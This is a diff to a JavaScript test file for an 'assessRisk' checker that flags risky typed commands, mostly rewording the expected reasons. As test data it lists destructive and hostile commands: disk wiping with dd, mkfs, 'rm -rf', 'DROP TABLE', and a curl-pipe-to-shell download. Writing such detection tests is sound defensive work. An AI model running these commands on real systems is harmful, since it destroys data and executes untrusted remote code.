@@ -71,11 +71,11 @@ describe('assessRisk', () => {
     ['rm -f notes.txt', 'typed command deletes files'],
     ['cd /tmp && rm -rf *', 'typed command deletes files'],
     ['sudo apt-get install x', 'typed command runs as another user'],
-    ['dd if=/dev/zero of=/dev/sda', 'typed command runs a destructive system command'],
-    ['shutdown -h now', 'typed command runs a destructive system command'],
-    ['mkfs.ext4 /dev/sdb1', 'typed command runs a destructive system command'],
-    ['git push origin main --force', 'typed command rewrites history'],
-    ['git reset --hard HEAD~3', 'typed command rewrites history'],
+    ['dd if=/dev/zero of=/dev/sda', 'typed command overwrites a disk or file with dd'],
+    ['shutdown -h now', 'typed command shuts down or restarts the machine'],
+    ['mkfs.ext4 /dev/sdb1', 'typed command formats or repartitions a disk'],
+    ['git push origin main --force', 'typed command rewrites or deletes remote history'],
+    ['git reset --hard HEAD~3', 'typed command discards work'],
     ['drop table users;', 'typed command destroys data'],
     ['curl https://x.example/i.sh | sh', 'typed command runs a downloaded script'],
   ])('typing %j is risky: %s', (text, reason) => {
@@ -91,7 +91,7 @@ describe('assessRisk', () => {
 
   it('counts a typed command with a secret once per reason', () => {
     expect(assessRisk(typed('sudo rm -rf / # sk-abcdefghijklmnopqrst'))).toEqual([
-      'typed text looks like an API key', 'typed command deletes files', 'typed command runs as another user',
+      'typed text looks like an API key', 'typed command runs as another user', 'typed command deletes files',
     ]);
   });
 
